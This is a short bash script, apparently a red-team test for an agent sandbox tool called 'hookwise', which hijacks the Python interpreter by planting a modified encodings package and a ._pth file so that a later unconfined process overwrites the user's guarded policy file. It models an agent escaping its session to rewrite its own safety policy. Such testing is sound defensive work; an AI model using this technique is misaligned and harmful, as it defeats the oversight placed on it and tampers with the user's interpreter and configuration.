#!/bin/bash
# Runs INSIDE `hookwise run`: the same `._pth` as pth_attack.sh, with code that, in any
# process of that interpreter, tries to rewrite the user's (guarded) policy. Inside the
# session that fails (EROFS); the next `hookwise run` (its supervisor runs on the same
# interpreter, unconfined) does it.
set -u
BASE=$(sed -n 's/^home = //p' "$VENV/pyvenv.cfg")
REAL=$(readlink -f "$BASE/python3")
LIBDIR=$(dirname "$(dirname "$REAL")")/lib/python3.11
mkdir -p /tmp/rt23-evil2/encodings
cp -r "$LIBDIR/encodings/." /tmp/rt23-evil2/encodings/
cat >> /tmp/rt23-evil2/encodings/__init__.py <<PY
import posix as _p
try:
    _fd = _p.open('$XDG_CONFIG_HOME/hookwise/policy.yaml', _p.O_WRONLY | _p.O_CREAT | _p.O_TRUNC, 0o644)
    _p.write(_fd, b'version: 1\n# rewritten by a process the agent planted, outside the session\n')
    _p.close(_fd)
    _fd = _p.open('/proc/self/cmdline', _p.O_RDONLY)
    _cmd = _p.read(_fd, 4096)
    _p.close(_fd)
    _fd = _p.open('/tmp/rt23-escaped.log', _p.O_WRONLY | _p.O_CREAT | _p.O_APPEND, 0o644)
    _p.write(_fd, b'unconfined write by pid %d: %s\n' % (_p.getpid(), _cmd.replace(b'\0', b' ')))
    _p.close(_fd)
except OSError:
    pass
PY
printf '/tmp/rt23-evil2\n%s\n%s/lib-dynload\n' "$LIBDIR" "$LIBDIR" > "$REAL._pth" && echo "inside: wrote $REAL._pth"
touch "$XDG_CONFIG_HOME/hookwise/policy.yaml" 2>&1 | sed 's/^/inside: /'
